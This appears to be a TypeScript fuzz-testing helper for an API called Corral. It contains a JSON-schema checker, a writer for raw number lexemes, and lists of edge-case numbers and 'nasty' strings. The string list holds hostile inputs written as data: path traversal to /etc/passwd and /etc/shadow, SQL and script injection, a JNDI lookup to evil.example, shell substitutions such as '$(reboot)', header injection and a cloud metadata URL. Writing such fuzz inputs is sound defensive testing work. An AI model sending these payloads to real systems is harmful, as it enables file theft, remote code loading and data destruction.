/**
 * Values the fuzzers send: a tiny JSON-schema checker (the subset Corral's OpenAPI document uses), the nasty
 * strings and numbers, and a JSON writer that can emit number lexemes JSON.stringify cannot (`1e400`).
 */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  enum?: unknown[];
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  format?: string;
  items?: JsonSchema;
  additionalProperties?: boolean | JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  nullable?: boolean;
  default?: unknown;
  description?: string;
}

/** A JSON number lexeme written verbatim into a body (`1e400`, `9007199254740993`). */
export class RawJson {
  constructor(readonly text: string) {}
}

export function toJsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.entries(value as Record<string, unknown>)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJsonText(v)}`)
      .join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

function typesOf(s: JsonSchema): string[] {
  return Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
}

/** Whether `v` satisfies `s` (JSON Schema subset; string lengths in UTF-16 units as zod counts them). */
export function isValid(s: JsonSchema, v: unknown): boolean {
  if (v instanceof RawJson) return isValid(s, JSON.parse(v.text) as unknown);
  const alts = s.anyOf ?? s.oneOf;
  if (alts) return alts.some((a) => isValid(a, v));
  if (s.enum) return s.enum.some((e) => e === v);
  const types = typesOf(s);
  if (v === null) return types.includes('null') || s.nullable === true;
  if (types.length === 0) return true;
  return types.some((t) => {
    switch (t) {
      case 'string': {
        if (typeof v !== 'string') return false;
        if (s.minLength !== undefined && v.length < s.minLength) return false;
        if (s.maxLength !== undefined && v.length > s.maxLength) return false;
        if (s.pattern !== undefined && !new RegExp(s.pattern, 'u').test(v)) return false;
        if (s.format === 'uri' || s.format === 'url') return URL.canParse(v);
        return true;
      }
      case 'integer':
      case 'number': {
        if (typeof v !== 'number' || !Number.isFinite(v)) return false;
        if (t === 'integer' && !Number.isInteger(v)) return false;
        if (s.minimum !== undefined && v < s.minimum) return false;
        if (s.maximum !== undefined && v > s.maximum) return false;
        if (s.exclusiveMinimum !== undefined && v <= s.exclusiveMinimum) return false;
        if (s.exclusiveMaximum !== undefined && v >= s.exclusiveMaximum) return false;
        return true;
      }
      case 'boolean':
        return typeof v === 'boolean';
      case 'array':
        return Array.isArray(v) && (!s.items || v.every((x) => isValid(s.items as JsonSchema, x)));
      case 'object': {
        if (typeof v !== 'object' || Array.isArray(v)) return false;
        const o = v as Record<string, unknown>;
        if ((s.required ?? []).some((k) => !(k in o))) return false;
        return Object.entries(o).every(([k, x]) => {
          const p = s.properties?.[k];
          return p ? isValid(p, x) : s.additionalProperties !== false;
        });
      }
      case 'null':
        return false;
      default:
        return true;
    }
  });
}

/** Strings that break naive handlers: traversal, encodings, NUL, control characters, unicode, injection. */
export const NASTY_STRINGS: readonly string[] = [
  'UPPER',
  'trailing-',
  '-leading',
  'under_score',
  'dot.ted',
  'a b',
  ' lead',
  'tail\n',
  '../etc/passwd',
  '../../../../../../etc/shadow',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2F..%2F',
  '%00',
  'nul\u0000byte',
  '\u0000',
  'ctrl\u0001\u001f\u007f',
  'ñandú',
  'straße',
  'Ελληνικά',
  '漢字',
  '😀',
  '\u202Eevil\u202C',
  '\uFEFFbom',
  '\ud800',
  '４Gi',
  "'; DROP TABLE vms; --",
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '$(reboot)',
  '`id`',
  'a\r\nX-Injected: 1',
  'NaN',
  'Infinity',
  '-1',
  '0',
  'null',
  'undefined',
  'true',
  'false',
  '__proto__',
  'constructor',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  'not a uri',
  '0Gi',
  '-4Gi',
  '99999999999999999999P',
  '1.5.5Gi',
  '4G ',
  '4 Gi',
  '1e3Gi',
  '0x10',
];

/** Numbers at and beyond every boundary, some only writable as raw lexemes. */
export const NASTY_NUMBERS: readonly (number | RawJson)[] = [
  0,
  -1,
  1,
  2.5,
  -0.5,
  1e-300,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 53),
  Number.MAX_SAFE_INTEGER + 2,
  1e308,
  -1e308,
  new RawJson('9007199254740993'),
  new RawJson('1e400'),
  new RawJson('-1e400'),
  new RawJson('123456789012345678901234567890'),
];

/** A deeply nested object/array (JSON parsers and validators that recurse). */
export function deep(depth: number): unknown {
  let v: unknown = 'x';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
}

/** encodeURIComponent that does not throw on a lone surrogate (sent as its raw UTF-16 code unit bytes instead). */
export function enc(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return [...s]
      .map((ch) => {
        try {
          return encodeURIComponent(ch);
        } catch {
          const u = ch.charCodeAt(0);
          return `%${(0xe0 | (u >> 12)).toString(16).toUpperCase()}%${(0x80 | ((u >> 6) & 0x3f)).toString(16).toUpperCase()}%${(0x80 | (u & 0x3f)).toString(16).toUpperCase()}`;
        }
      })
      .join('');
  }
}
